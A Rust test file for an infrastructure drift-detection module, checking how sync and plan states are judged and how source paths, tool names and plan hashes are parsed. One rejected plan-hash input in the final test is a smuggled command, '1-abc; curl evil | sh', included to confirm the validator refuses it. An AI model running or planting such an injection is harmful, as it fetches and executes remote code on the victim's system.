use chrono::TimeDelta;

use super::*;
use crate::Timestamp;

fn at(hours: i64) -> Timestamp {
    Timestamp::UNIX_EPOCH + TimeDelta::hours(hours)
}

fn known(found: Found, ended: i64) -> Known<'static> {
    Known { found, since: at(0), ended_at: at(ended), reason: None, is_by_revoked: false }
}

fn each(hours: i64) -> Option<Expected> {
    Some(Expected { every: TimeDelta::hours(hours), asked_at: at(0) })
}

fn check(known: Option<Known<'_>>, expected: Option<Expected>, now: i64, state: DriftState, reason: Option<&str>) {
    let verdict = judge(known, expected, at(now));
    assert_eq!((verdict.state, verdict.reason.as_deref()), (state, reason), "{known:?} {expected:?} {now}");
}

#[test]
fn a_look_is_never_the_same_where_something_was_not_looked_at() {
    for (differences, is_whole, found) in
        [(0, true, Found::Same), (0, false, Found::Unknown), (1, true, Found::Differs), (3, false, Found::Differs)]
    {
        assert_eq!(Found::of(differences, is_whole), found);
    }
}

#[test]
fn a_look_is_of_the_record_whose_name_it_bears_in_whatever_letter_case() {
    let name = |repository: Option<&str>, source: &str| RecordName {
        repository: repository.map(|name| name.parse().unwrap()),
        environment: "prod".parse().unwrap(),
        tool: DriftTool::Terraform,
        source: source.parse().unwrap(),
    };
    let own = name(Some("acme/infra"), "infra/prod");
    assert!(own.is_of(&own) && own.is_of(&name(Some("Acme/Infra"), "infra/prod")));
    for other in
        [name(None, "infra/prod"), name(Some("acme/other"), "infra/prod"), name(Some("acme/infra"), "infra/Prod")]
    {
        assert!(!own.is_of(&other), "{other}");
    }
}

#[test]
fn what_the_last_look_found_counts_while_somebody_looks() {
    check(Some(known(Found::Same, 10)), each(24), 30, DriftState::Same, None);
    check(Some(known(Found::Differs, 10)), each(24), 30, DriftState::Differs, None);
    check(Some(known(Found::Same, 10)), None, 30, DriftState::Same, None);
    let reason = Known { reason: Some("`tofu plan` failed"), ..known(Found::Unknown, 10) };
    check(Some(reason), each(24), 30, DriftState::Unknown, Some("`tofu plan` failed"));
}

#[test]
fn silence_is_seen_and_is_never_the_same() {
    let silent = "nobody has looked for 2 d; it was the same then";
    check(Some(known(Found::Same, 10)), each(24), 58, DriftState::NotLookedAt, Some(silent));
    // A quarter late is not silent.
    check(Some(known(Found::Same, 10)), each(24), 40, DriftState::Same, None);
    let late = "nobody has looked for 1 d 7 h; it was the same then";
    check(Some(known(Found::Same, 10)), each(24), 41, DriftState::NotLookedAt, Some(late));
    let never = "nobody has looked, since it was asked for 2 d ago";
    check(None, each(24), 48, DriftState::NotLookedAt, Some(never));
    check(None, None, 48, DriftState::NotLookedAt, Some("nobody has looked yet"));
    let forgotten = "nobody has looked for 9 d; it was different then";
    check(Some(known(Found::Differs, 10)), None, 10 + 9 * 24, DriftState::NotLookedAt, Some(forgotten));
    // It was asked for an hour ago: whoever is to look has not been late yet.
    let asked = Some(Expected { every: TimeDelta::hours(24), asked_at: at(57) });
    check(Some(known(Found::Same, 10)), asked, 58, DriftState::Same, None);
    // But what was silence before somebody asked stays silence.
    let asked = Some(Expected { every: TimeDelta::hours(24), asked_at: at(10 + 9 * 24) });
    let silent = "nobody has looked for 9 d 1 h; it was the same then";
    check(Some(known(Found::Same, 10)), asked, 11 + 9 * 24, DriftState::NotLookedAt, Some(silent));
}

#[test]
fn the_word_of_a_revoked_reporter_is_not_taken() {
    let look = Known { is_by_revoked: true, ..known(Found::Same, 10) };
    let reason = "the last look is by a revoked reporter; it was the same then";
    check(Some(look), each(24), 11, DriftState::Unknown, Some(reason));
}

fn sync() -> SyncLook<'static> {
    SyncLook {
        agent: AgentWord::Fresh,
        fault: None,
        is_suspended: false,
        unseen_since: None,
        is_applied: true,
        is_whole: true,
        errors: 0,
        open_drifts: 0,
        open_since: None,
        conditions: &[],
        is_prune_stopped: false,
        reported_at: at(1),
    }
}

#[test]
fn a_sync_is_the_same_only_where_its_agent_looks_and_all_is_applied() {
    let check = |look: SyncLook<'_>, state: DriftState| assert_eq!(judge_sync(&look).state, state, "{look:?}");
    check(sync(), DriftState::Same);
    check(SyncLook { agent: AgentWord::Old(Some(at(0))), ..sync() }, DriftState::NotLookedAt);
    check(SyncLook { fault: Some(("no branch", at(0))), ..sync() }, DriftState::Unknown);
    check(SyncLook { is_suspended: true, ..sync() }, DriftState::NotLookedAt);
    check(SyncLook { unseen_since: Some(at(0)), ..sync() }, DriftState::NotLookedAt);
    check(SyncLook { open_drifts: 1, open_since: Some(at(0)), ..sync() }, DriftState::Differs);
    check(SyncLook { errors: 2, ..sync() }, DriftState::Differs);
    check(SyncLook { is_whole: false, ..sync() }, DriftState::Differs);
    check(SyncLook { is_applied: false, ..sync() }, DriftState::Differs);
}

#[test]
fn a_sync_is_not_the_same_where_its_agent_says_otherwise() {
    let said = |kind, is_true| SyncCondition { kind, is_true, message: "why", since: at(2) };
    let check = |one: SyncCondition<'_>, state: DriftState, reason: Option<&str>| {
        let fetched = if one.kind == "Fetched" { one } else { said("Fetched", true) };
        let verdict = judge_sync(&SyncLook { conditions: &[fetched, one], ..sync() });
        assert_eq!((verdict.state, verdict.reason.as_deref()), (state, reason), "{one:?}");
        assert_eq!(verdict.since, reason.map(|_| at(2)), "{one:?}");
    };
    check(said("FoughtOver", true), DriftState::Differs, Some("why"));
    for kind in ["Fetched", "Rendered", "Watched"] {
        check(said(kind, false), DriftState::Unknown, Some("why"));
        check(said(kind, true), DriftState::Same, None);
    }
    check(said("Healthy", false), DriftState::Same, None);
    let asks = SyncLook { is_prune_stopped: true, conditions: &[said("Fetched", false)], ..sync() };
    assert_eq!(judge_sync(&asks).state, DriftState::Differs, "what is known to differ comes first");
    // Before the first revision is there, nobody knows what Git says.
    let new = SyncLook { is_applied: false, conditions: &[said("Fetched", false)], ..sync() };
    assert_eq!(judge_sync(&new).state, DriftState::Unknown);
}

#[test]
fn one_source_has_one_name() {
    for (text, name) in [("infra/prod", "infra/prod"), ("./infra/prod/", "infra/prod"), (" . ", "."), ("./", ".")] {
        assert_eq!(text.parse::<DriftSource>().map(String::from), Ok(name.to_owned()), "{text}");
    }
    for text in ["", "  ", "a\nb", &"x".repeat(MAX_SOURCE_BYTES + 1)] {
        assert_eq!(text.parse::<DriftSource>(), Err(SourceError), "{text:?}");
    }
}

#[test]
fn words_are_read_as_they_are_written() {
    assert_eq!("ansible".parse(), Ok(DriftTool::Ansible));
    let fault = "puppet".parse::<DriftTool>().unwrap_err();
    assert_eq!(fault, "`puppet` is no tool: write `kubernetes`, `terraform`, `ansible`");
    fn check<T: Serialize + Copy>(all: &[T], word: fn(T) -> &'static str) {
        all.iter().for_each(|one| assert_eq!(serde_json::to_value(one).unwrap(), word(*one)));
    }
    check(DriftTool::ALL, DriftTool::as_str);
    check(DriftState::ALL, DriftState::as_str);
    check(Found::ALL, Found::as_str);
    check(Deviation::ALL, Deviation::as_str);
    check(Cause::ALL, Cause::as_str);
}

#[test]
fn a_hash_of_a_plan_is_written_in_one_way() {
    let (run, digits) = (uuid::Uuid::from_bytes([0x0f; 16]), [0xab; 32]);
    let hash = PlanHash::new(run, &digits).to_string();
    assert_eq!(hash, format!("1-{}-{}", "0f".repeat(16), "ab".repeat(32)));
    assert_eq!(hash.parse::<PlanHash>().map(|hash| hash.run()), Ok(run));
    let long = format!("{hash}-x");
    let others = [&hash.to_uppercase(), &hash.replacen('1', "2", 1), &hash.replace('b', "é"), &long, &hash[..90]];
    for wrong in ["", "1-0f-ab", "1-abc; curl evil | sh"].into_iter().chain(others.map(|one| one as &str)) {
        assert_eq!(serde_json::from_value::<PlanHash>(wrong.into()).ok(), None, "{wrong}");
    }
}
